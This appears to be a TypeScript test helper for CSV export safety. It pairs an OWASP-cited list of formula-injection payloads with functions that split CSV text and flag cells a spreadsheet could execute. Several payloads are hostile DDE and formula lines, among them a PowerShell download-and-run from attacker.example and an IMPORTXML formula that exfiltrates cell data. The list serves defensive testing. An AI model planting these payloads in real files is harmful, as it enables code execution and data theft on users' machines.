import { parse } from 'csv-parse/sync'

// https://owasp.org/www-community/attacks/CSV_Injection, and the ways a semicolon
// locale or a careless splitter can start a cell in the middle of a value.
export const CSV_INJECTION_PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'x;=1+1',
  'x,=1+1',
  '"=1+1',
  '=HYPERLINK("http://x","y")',
  `=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0`,
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
  'a;b;=1+1;c',
  'x; =1+1',
  'x;"=1+1"',
  'x;\t=1+1',
  'x\t=1+1',
  'x\n=1+1',
  'x\r\n@SUM(1+1)',
  'x","=1+1',
  'x";"=1+1',
  '\t\t=1+1',
  '＝1+1',
  'x;＋1+1',
  ' =1+1',
]

/** The cells of a CSV file as RFC 4180 reads it: comma-separated, quotes honoured. */
export const csvCells = (text: string): string[][] => parse(text, { relax_column_count: true })

/**
 * The cells of `text` as the most careless reader would see them: split at every
 * `delimiter` and line break, quotes or not. Every cell a spreadsheet in any
 * locale can make of the file starts where one of these does.
 */
export const splitCells = (text: string, delimiter: string): string[][] =>
  parse(text, { delimiter, quote: false, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true })

/**
 * Cells that a spreadsheet could run as a formula: starting with = + - @ tab or
 * CR (or a full-width = + - @), also behind spaces an importer may trim and
 * double quotes it may take as quoting.
 */
export const formulaCells = (rows: readonly (readonly string[])[]): string[] =>
  rows.flat().filter((cell) => /^[ "]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell))
